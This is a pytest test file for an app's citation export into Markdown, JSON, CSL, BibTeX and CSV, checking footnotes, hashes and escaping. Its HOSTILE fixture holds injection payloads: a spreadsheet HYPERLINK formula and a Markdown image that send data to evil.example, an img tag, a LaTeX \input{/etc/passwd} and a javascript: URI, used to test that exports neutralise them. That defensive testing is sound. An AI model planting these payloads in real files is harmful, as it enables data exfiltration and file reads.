"""Answers as files: every quotation with its place, and nothing in them that acts."""

import csv
import io
import json
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.types import Account, Attribution, Mention, Speaker
from corpus.types import Filters, Span
from ui import export
from ui.kept import Exchange, sha256

FIRST, SECOND = "The bridge is closed, the mayor said.", "Engineers told the council that it is safe."
HOSTILE = (
    '=HYPERLINK("http://evil.example/?q"&A1) ![](https://evil.example/?q=secret) <img src=x> }\\input{/etc/passwd}'
)
LINES = [
    {"id": "gazette", "title": "Bridge closed", "text": FIRST, "source": "Gazette", "published": "2016-11-29",
     "uri": "https://example.org/bridge"},
    {"id": "notes", "text": SECOND},
    {"id": "=hostile", "title": HOSTILE, "text": HOSTILE, "source": "@" + HOSTILE, "uri": "javascript:alert(1)"},
]  # fmt: skip


@pytest.fixture(scope="module")
def library(build, tmp_path_factory):
    return build(tmp_path_factory.mktemp("export"), {"news.jsonl": "\n".join(map(json.dumps, LINES))})


@pytest.fixture
def exchange(library, say):
    gazette = library.named("gazette").id
    mayor = Mention(Span(gazette, 22, 31), "the mayor")
    said = Attribution(Speaker(mayor, mayor, True), None, None, (), "reported")
    first = say.claim(library, "gazette", FIRST, answer=Span(gazette, 4, 10), attribution=said)
    first = replace(first, document=replace(first.document, pages=(0, 0, 5)))
    answer = say.answer(
        "Is it closed?", (first, say.claim(library, "notes", SECOND)), standalone="Is the bridge closed?",
        short_answer="bridge", accounts=(Account("closed", (0,)), Account("safe", (1,))), differ=True,
    )  # fmt: skip
    return Exchange(1, "2026-11-22T10:00:00Z", "Is it closed?", Filters(since="2016-01-01"), "answered", answer)


@pytest.fixture
def hostile(library, say):
    answer = say.answer("+1?", (say.claim(library, "=hostile", HOSTILE),), short_answer=HOSTILE)
    return Exchange(1, "2026-11-22T10:00:00Z", "+1?", Filters(source="-x"), "answered", answer)


def test_markdown_has_footnotes_with_offsets_and_hashes(exchange):
    text = export.markdown("The bridge", [exchange, replace(exchange, number=2)])
    assert text.startswith("# The bridge\n\n## Is it closed?\n\nRead as: Is the bridge closed?\n")
    assert f"the mayor:\n\n> “{FIRST}”[^1]" in text and f"> “{SECOND}”[^4]" in text
    assert "- closed [^1]\n- safe [^2]\n\nThese accounts differ." in text and "- safe [^4]" in text
    note = re.search(r"^\[\^1\]: (.*)$", text, re.MULTILINE)[1]
    assert note == (
        "Gazette, Bridge closed, 2016-11-29, https://example.org/bridge, gazette, page 2, "
        f"characters 0–{len(FIRST)}, SHA-256 {sha256(FIRST)}."
    )
    assert [int(n) for n in re.findall(r"^\[\^(\d+)\]:", text, re.MULTILINE)] == [1, 2, 3, 4]


def test_markdown_loads_and_runs_nothing(hostile):
    text = export.markdown(HOSTILE, [hostile])
    assert not re.search(r"(?<!\\)(!\[|<img|\]\()", text)
    assert "javascript:" not in text


@given(st.text(st.characters(exclude_categories=["Cs"])))
def test_escaped_markdown_has_no_bare_sign(text):
    bare = re.sub(r"\\[!-/:-@\[-`{-~]|&#32;", "", export._escaped(text))
    assert not set("\\`*_[]<>|~$&!^{}") & set(bare)


def test_json_is_the_interface_with_hashes(exchange):
    told = json.loads(export.as_json("The bridge", [exchange]))
    [one] = told["exchanges"]
    assert one["filters"]["since"] == "2016-01-01" and one["answer"]["standalone"] == "Is the bridge closed?"
    assert [claim["sha256"] for claim in one["answer"]["claims"]] == [sha256(FIRST), sha256(SECOND)]


def test_csl_is_what_zotero_reads(exchange, hostile):
    first, second = json.loads(export.csl("", [exchange, exchange]))
    assert first["type"] == "webpage" and first["container-title"] == "Gazette" and first["page"] == "2"
    assert first["issued"] == {"date-parts": [[2016, 11, 29]]} and first["note"].count(sha256(FIRST)) == 1
    assert second["type"] == "document" and "issued" not in second and "URL" not in second
    [item] = json.loads(export.csl("", [hostile]))
    assert item["title"] == HOSTILE and "URL" not in item


def test_bibtex_holds_its_braces(exchange, hostile):
    text = export.bibtex("", [exchange])
    assert "title = {{Bridge closed}}" in text and "year = {2016},\n  month = {11},\n  day = {29}" in text
    assert "url = {https://example.org/bridge}" in text and sha256(FIRST) in text
    depth = 0
    for sign in re.sub(r"\\[{}]", "", export.bibtex("", [hostile])):
        depth += (sign == "{") - (sign == "}")
        assert depth >= 0
    assert depth == 0 and r"\input" not in export.bibtex("", [hostile])


def rows(text: str) -> list[dict]:
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_csv_has_a_row_for_each_claim(exchange):
    first, second = rows(export.as_csv("", [exchange]))
    assert (first["quote"], first["answer"]) == (FIRST, "bridge")
    assert (first["account"], first["claimant"]) == ("closed", "the mayor")
    assert (first["start"], first["end"], first["sha256"]) == ("0", str(len(FIRST)), sha256(FIRST))
    assert (second["quote"], second["source"], second["filters"]) == (SECOND, "", "since 2016-01-01")


def test_no_cell_is_a_formula(hostile):
    [row] = rows(export.as_csv("", [hostile]))
    for name in ("question", "quote", "source", "title", "name"):
        assert row[name].startswith("'"), name
    assert row["quote"] == "'" + HOSTILE


@given(st.text(st.characters(exclude_categories=["Cs"])), st.sampled_from("=+-@＝＋－＠"))
def test_nothing_begins_a_formula(text, sign):
    """THREATS 34."""
    for hostile in (sign + text, " " + sign + text, '"' + sign + text, "\n" + sign + text, "\t" + text, "\r" + text):
        assert export._cell(hostile) == "'" + hostile
    assert export._cell("a" + text) == "a" + text


def test_what_is_gone_says_so_in_every_form(exchange):
    first, second = exchange.answer.claims
    nameless = replace(first.document, name="", title=None, pages=())
    gone = replace(first, text="", answer=None, attribution=None, document=nameless)
    answer = replace(exchange.answer, claims=(gone, second), accounts=(), short_answer=None)
    lost = replace(exchange, answer=answer, lost={0: "was removed on 2026-11-22"})
    assert "The passage quoted here was removed on 2026-11-22. [^1]" in export.markdown("", [lost])
    assert json.loads(export.as_json("", [lost]))["exchanges"][0]["answer"]["claims"][0]["lost"]
    row = rows(export.as_csv("", [lost]))[0]
    assert (row["quote"], row["sha256"], row["lost"]) == ("", "", "was removed on 2026-11-22")
    assert len(json.loads(export.csl("", [lost]))) == 1 and export.bibtex("", [lost]).count("@misc") == 1
    for write, *_ in export.FORMATS.values():
        assert FIRST not in write("", [lost])


def test_a_stopped_question_is_exported_as_one(exchange):
    stopped = replace(exchange, answer=None, state="stopped")
    for write, *_ in export.FORMATS.values():
        assert isinstance(write("Title", [stopped]), str)
    assert "(Not answered.)" in export.markdown("", [stopped])
